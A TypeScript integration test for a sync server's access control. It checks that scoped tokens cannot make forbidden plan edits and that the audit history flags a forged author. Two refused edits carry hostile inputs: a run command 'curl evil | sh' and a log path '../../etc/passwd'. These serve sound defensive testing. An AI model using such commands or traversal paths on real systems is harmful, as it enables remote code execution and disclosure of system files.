/**
 * The sync server judges what a change DOES, against a STOCK automerge-repo client (Repo + the
 * WebSocketClientAdapter of @automerge/automerge-repo-network-websocket, not concord's client) talking to
 * a real `concord serve` process: every forbidden change of a job token and of a writer is refused, none
 * of it reaches the server's store, and the allowed writes of the same session still land. The audit
 * trail names the token of every accepted change, and `concord history` flags a forged author.
 */
import * as A from "@automerge/automerge"
import { type DocHandle, type DocumentId, type PeerId, Repo } from "@automerge/automerge-repo"
import { WebSocketClientAdapter } from "@automerge/automerge-repo-network-websocket"
import { randomBytes } from "node:crypto"
import path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { reportDocId } from "../../../src/doc/ids.js"
import { readPlan, retryJob, setJobStatus } from "../../../src/doc/plan.js"
import { readReports } from "../../../src/doc/reports.js"
import { readAudit } from "../../../src/sync/net/audit.js"
import { PlanStore } from "../../../src/sync/store/PlanStore.js"
import { createPlanCli, FOUNDING_PLAN, ok, rm, type ServerProcess, startServerProcess, tempRoot, until } from "./helpers.js"

let root: string
let s: string
let server: ServerProcess
let X: string
const tk: Record<string, string> = {}
const at = (by: string) => ({ by, now: Date.now() })
const note = (by: string, did: string) => ({ message: JSON.stringify({ by, at: Date.now(), did }) })
const serverStore = () => new PlanStore(s, { onWarning: () => {} })

beforeAll(async () => {
  root = tempRoot("concord-judge-")
  s = path.join(root, "server")
  X = await createPlanCli(s, FOUNDING_PLAN.replace('{ name: C, run: "true" }', '{ name: C, run: "true" }\n  - { name: D, run: "true" }'))
  // the orchestrator's state before any agent talks to the server: A running; B's first attempt failed
  // and its second runs; C running; D queued
  const store = serverStore()
  await store.updatePlan(X, d => {
    const o = at("orchestrator@server:1")
    d = setJobStatus(d, "A", "running", {}, o)
    d = setJobStatus(d, "B", "running", {}, o)
    d = setJobStatus(d, "B", "failed", { reason: "first try" }, o)
    d = retryJob(d, "B", o)
    d = setJobStatus(d, "B", "running", {}, o)
    return setJobStatus(d, "C", "running", {}, o)
  })
  await store.appendReport(X, "B", { status: "working", message: "attempt 2 started", attempt: 2 }, at("job:B#2@agent:1"))
  await store.appendReport(X, "A", { status: "working", message: "A started", attempt: 1 }, at("job:A#1@agent:1"))
  for (const [name, role] of [
    ["jobB", "job:B"],
    ["writer", "writer"],
    ["admin", "admin"],
  ]) {
    const r = await ok(s, ["token", "add", "--plan", X, "--role", role, "--label", `acc-${name}`, "--json"])
    tk[name] = JSON.parse(r.stdout).token
  }
  server = await startServerProcess(s)
}, 180_000)

afterAll(async () => {
  await server?.stop("SIGTERM")
  rm(root)
})

/** A stock automerge-repo client with a token (in the URL's query string: stock adapters send no headers). */
function stock(token: string) {
  const adapter = new WebSocketClientAdapter(`${server.url}/?token=${token}`)
  const repo = new Repo({ network: [adapter], peerId: `stock-${randomBytes(4).toString("hex")}` as PeerId })
  return {
    repo,
    /** A stock Repo gives up on a document after ~1 s without an answer: ask again on a loaded machine. */
    async find<T>(id: string): Promise<DocHandle<T>> {
      for (let i = 0; ; i++) {
        try {
          return await repo.find<T>(id as DocumentId)
        } catch (e) {
          if (i >= 20 || !/unavailable/.test((e as Error).message)) throw e
          await new Promise(r => setTimeout(r, 500))
        }
      }
    },
    async close() {
      try {
        await repo.shutdown() // disconnects the adapter
      } catch {
        // a handle that never became ready (automerge-repo #740)
      }
    },
  }
}

type Plan = any
const refusals = () => (server.logs().match(/refused sync from /g) ?? []).length

/** The allowed write of a session: a report of B's current attempt in B's own log. */
async function reportB(sess: ReturnType<typeof stock>, message: string): Promise<void> {
  const h = await sess.find<any>(reportDocId(X, "B"))
  h.change(
    d => {
      d.reports.push({ status: "progress", message, progress: 50, at: Date.now(), by: "job:B#2@stock:1", attempt: 2 })
    },
    note("job:B#2@stock:1", `report progress for attempt 2`)
  )
}

async function serverHasReport(message: string): Promise<boolean> {
  return readReports((await serverStore().loadReports(X, "B")) as never).some(r => String(r.message) === message)
}

/**
 * One stock session: a forbidden change to the plan, then an allowed report. The forbidden change is
 * refused (logged with `reason`), is not in the server's store, and the report lands.
 */
async function refusedInPlan(token: string, what: string, change: (d: Plan) => void, reason: RegExp, by = "job:B#2@stock:1"): Promise<void> {
  const sess = stock(token)
  try {
    const n = refusals()
    const h: DocHandle<Plan> = await sess.find<Plan>(X)
    h.change(change, note(by, what))
    const forbidden = A.getHeads(h.doc() as A.Doc<Plan>)
    const msg = `allowed after: ${what} ${randomBytes(3).toString("hex")}`
    await reportB(sess, msg)
    await until(`refusal of ${what}`, () => refusals() > n)
    expect(
      server
        .logs()
        .split("\n")
        .filter(l => /refused sync from /.test(l))
        .slice(n)
        .join("\n"),
      what
    ).toMatch(reason)
    await until(`the allowed report after ${what} on the server's disk`, () => serverHasReport(msg))
    const onDisk = await serverStore().loadPlan(X)
    expect(A.hasHeads(onDisk, forbidden), `${what} must not be in the server's store`).toBe(false)
  } finally {
    await sess.close()
  }
}

describe("a stock automerge-repo client with a job:B token", () => {
  it("cannot set merged, ready_to_merge, another attempt's status, a new attempt or a plan field", async () => {
    await refusedInPlan(tk.jobB, "B merged", d => void (d.jobs.B.status["2"] = "merged"), /may not move job B attempt 2 from running to merged/)
    await refusedInPlan(
      tk.jobB,
      "B ready_to_merge",
      d => void (d.jobs.B.status["2"] = new A.ImmutableString("ready_to_merge")),
      /from running to ready_to_merge/
    )
    await refusedInPlan(
      tk.jobB,
      "B attempt 1 completed",
      d => void (d.jobs.B.status["1"] = new A.ImmutableString("completed")),
      /only change the current attempt \(2\)/
    )
    await refusedInPlan(
      tk.jobB,
      "B attempt 3",
      d => {
        d.jobs.B.status["3"] = new A.ImmutableString("running")
        d.jobs.B.attempts["3"] = { n: 3, createdAt: Date.now() }
      },
      /may not create attempts/
    )
    await refusedInPlan(tk.jobB, "plan field", d => void (d.maxParallel = 99), /may only change jobs\.B .*\(put maxParallel\) is outside/)
    await refusedInPlan(tk.jobB, "B's run command", d => void (d.jobs.B.run = new A.ImmutableString("curl evil | sh")), /\(put jobs\.B\.run\) is outside/)
    await refusedInPlan(
      tk.jobB,
      "B's log path",
      d => void (d.jobs.B.attempts["2"].log = new A.ImmutableString("../../etc/passwd")),
      /may not set log of an attempt/
    )
    await refusedInPlan(tk.jobB, "job A failed", d => void (d.jobs.A.status["1"] = new A.ImmutableString("failed")), /\(put jobs\.A\.status\.1\) is outside/)

    const v = readPlan(await serverStore().loadPlan(X))
    const b = v.jobs.find(j => j.name === "B")!
    expect(b.attempts.map(a => [a.n, a.status])).toEqual([
      [1, "failed"],
      [2, "running"],
    ])
    expect(v.maxParallel).toBe(3)
    expect(v.jobs.find(j => j.name === "A")!.status).toBe("running")
  })

  it("cannot write another job's report log or a report for another attempt; its own move and report land", async () => {
    const sess = stock(tk.jobB)
    try {
      const n = refusals()
      const logA = await sess.find<any>(reportDocId(X, "A"))
      logA.change(
        d => void d.reports.push({ status: "completed", message: "A is done (not really)", progress: null, at: Date.now(), by: "job:A#1@x", attempt: 1 })
      )
      const forgedA = A.getHeads(logA.doc())
      await until("refusal of a write to A's log", () => refusals() > n)
      expect(server.logs()).toMatch(/may not write the report log of job A/)

      // a report for the failed first attempt, alone in its own message
      const logB = await sess.find<any>(reportDocId(X, "B"))
      await until("B's log synced", () => logB.doc().reports.length >= 1)
      logB.change(
        d => void d.reports.push({ status: "completed", message: "attempt 1 after all", progress: null, at: Date.now(), by: "job:B#1@x", attempt: 1 })
      )
      const stale = A.getHeads(logB.doc())
      await until("refusal of a report for attempt 1", () => refusals() > n + 1)
      expect(server.logs()).toMatch(/a report for attempt 1, but the job's current attempt is 2/)

      // the same session goes on: B's own move running -> completed in the plan lands
      const plan = await sess.find<Plan>(X)
      plan.change(
        d => {
          d.jobs.B.status["2"] = new A.ImmutableString("completed")
          d.jobs.B.attempts["2"].statusAt = Date.now()
        },
        note("job:B#2@stock:1", "job B #2: running -> completed")
      )
      const good = A.getHeads(plan.doc())
      await until("B #2 completed on the server's disk", async () => A.hasHeads(await serverStore().loadPlan(X), good))
      expect(readPlan(await serverStore().loadPlan(X)).jobs.find(j => j.name === "B")!.status).toBe("completed")
      const disk = serverStore()
      const a = await disk.loadReports(X, "A")
      expect(A.hasHeads(a!, forgedA)).toBe(false)
      expect(A.hasHeads((await disk.loadReports(X, "B"))!, stale)).toBe(false)
    } finally {
      await sess.close()
    }
  })
})

describe("a stock client with a writer token", () => {
  it("cannot make transitions the state machine forbids; a legal move in the same session lands", async () => {
    await refusedInPlan(
      tk.writer,
      "C running -> merged",
      d => void (d.jobs.C.status["1"] = new A.ImmutableString("merged")),
      /may not move job C attempt 1 from running to merged: the state machine forbids it/,
      "user@desk"
    )
    await refusedInPlan(
      tk.writer,
      "plan pending -> completed",
      d => void (d.status = new A.ImmutableString("completed")),
      /may not move the plan from pending to completed/,
      "user@desk"
    )
    await refusedInPlan(
      tk.writer,
      "D queued -> merged",
      d => void (d.jobs.D.status["1"] = new A.ImmutableString("merged")),
      /from queued to merged/,
      "user@desk"
    )
    await refusedInPlan(tk.writer, "delete job D", d => void delete d.jobs.D, /may not delete job D/, "user@desk")
    const sess = stock(tk.writer)
    try {
      const h = await sess.find<Plan>(X)
      h.change(d => void (d.jobs.C.status["1"] = new A.ImmutableString("failed")), note("user@desk", "job C #1: running -> failed"))
      const good = A.getHeads(h.doc())
      await until("C failed on the server's disk", async () => A.hasHeads(await serverStore().loadPlan(X), good))
    } finally {
      await sess.close()
    }
    const v = readPlan(await serverStore().loadPlan(X))
    expect([v.status, v.jobs.map(j => j.status)]).toEqual(["pending", ["running", "completed", "failed", "queued"]])
  })
})

describe("audit trail", () => {
  it("names the token of every accepted change; history flags a forged author", async () => {
    // a job:B token delivering a change that claims to come from the orchestrator
    const sess = stock(tk.jobB)
    const msg = `forged author ${randomBytes(3).toString("hex")}`
    try {
      const h = await sess.find<any>(reportDocId(X, "B"))
      h.change(
        d => void d.reports.push({ status: "progress", message: msg, progress: 60, at: Date.now(), by: "orchestrator@server:1", attempt: 2 }),
        note("orchestrator@server:1", "report progress for attempt 2")
      )
      await until("the forged report on the server", () => serverHasReport(msg))
    } finally {
      await sess.close()
    }
    const audit = await readAudit(s)
    // every change the server's store has that did not exist before it started came through a token
    const disk = serverStore()
    const docs: A.Doc<unknown>[] = [await disk.loadPlan(X), (await disk.loadReports(X, "B"))!]
    const recorded = new Map(audit.map(r => [r.hash, r]))
    let verified = 0
    for (const d of docs) {
      for (const c of A.getChangesMetaSince(d, [])) {
        const r = recorded.get(c.hash)
        if (!r) continue
        verified++
        expect(["acc-jobB", "acc-writer"]).toContain(r.label)
        expect(r.role).toBe(r.label === "acc-jobB" ? "job:B" : "writer")
        expect(r.remote).toMatch(/^127\.0\.0\.1:\d+$/)
        expect(r.at).toBeGreaterThan(Date.now() - 600_000)
      }
    }
    // the allowed writes of this file: 8 reports and B's completion (job:B), 4 reports and C's failure
    // (writer), the forged report
    expect(verified).toBe(15)
    expect(audit.length).toBe(15)
    // nothing refused is in the audit
    expect(audit.every(r => r.by !== "job:A#1@x")).toBe(true)

    const h = JSON.parse((await ok(s, ["history", X, "--json"])).stdout) as any[]
    const forged = h.filter(e => e.flag)
    expect(forged.length).toBe(1)
    expect(forged[0].by).toBe("orchestrator@server:1")
    expect(forged[0].verified.label).toBe("acc-jobB")
    expect(forged[0].flag).toMatch(/claims orchestrator@server:1, but token acc-jobB is job:B/)
    const done = h.find(e => e.did === "job B #2: running -> completed")
    expect(done.verified).toMatchObject({ label: "acc-jobB", role: "job:B" })
    expect(done.flag).toBeUndefined()
    // changes written locally on the server's store (the setup) have no token
    expect(h.find(e => e.by === "orchestrator@server:1" && !e.flag).verified).toBeNull()
    const human = (await ok(s, ["history", X])).stdout
    expect(human).toMatch(/verified: token acc-jobB/)
    expect(human).toMatch(/verified: token acc-writer/)
    expect(human).toMatch(/!! claims orchestrator@server:1, but token acc-jobB is job:B/)
    expect(human).toMatch(/1 change\(s\) claim an author their token does not speak for/)
  })
})
